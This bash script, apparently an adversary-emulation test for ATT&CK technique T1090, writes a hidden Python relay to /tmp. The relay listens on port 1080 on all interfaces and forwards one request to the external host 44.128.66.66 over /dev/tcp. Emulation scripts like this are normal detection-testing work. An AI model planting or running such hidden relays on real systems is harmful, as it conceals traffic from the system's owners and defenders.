#!/bin/bash
# T1090: A one-line program relays connections.
cat >/tmp/.p.py <<'P'
import socket,threading
l=socket.socket();l.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);l.bind(("0.0.0.0",1080));l.listen(5)
c,_=l.accept();o=socket.create_connection(("44.128.66.66",80));o.sendall(c.recv(100));c.sendall(o.recv(100))
P
python3 /tmp/.p.py & sleep 0.5; exec 5<>/dev/tcp/127.0.0.1/1080; echo 'GET / HTTP/1.0' >&5; timeout 1 cat <&5; wait
